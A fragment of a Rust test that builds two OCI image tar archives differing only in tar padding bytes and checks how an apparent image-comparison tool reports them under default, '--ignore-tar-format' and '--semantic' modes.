    let mut names = vec!["oci-layout".to_string(), "index.json".to_string()];
    let mut blobs = vec![l.manifest_digest(0), l.config_digest(0)];
    blobs.extend(
        l.manifest(0)["layers"]
            .as_array()
            .unwrap()
            .iter()
            .map(|d| d["digest"].as_str().unwrap().to_string()),
    );
    names.extend(blobs.iter().map(|d| format!("blobs/sha256/{}", &d[7..])));
    let mut arch = Vec::new();
    let mut padding = None;
    for n in &names {
        let data = std::fs::read(l.dir.join(n)).unwrap();
        arch.extend(Hdr::new(n).mtime(0).member(&data));
        if n.ends_with(&gz_digest[7..]) {
            padding = Some(arch.len() - (512 - data.len() % 512)..arch.len());
        }
    }
    let a = finish(&[&arch]);
    let mut b = a.clone();
    b[padding.unwrap()].fill(b'X');
    let (pa, pb) = (t.path().join("a.tar"), t.path().join("b.tar"));
    std::fs::write(&pa, a).unwrap();
    std::fs::write(&pb, b).unwrap();
    check(
        "image",
        &format!("oci-archive:{}", s(&pa)),
        &format!("oci-archive:{}", s(&pb)),
        &[
            (&[], &[("input", "sha256"), ("input", "archive")]),
            (&["--ignore-tar-format"], &[]),
            (&["--semantic"], &[]),
        ],
    );
}
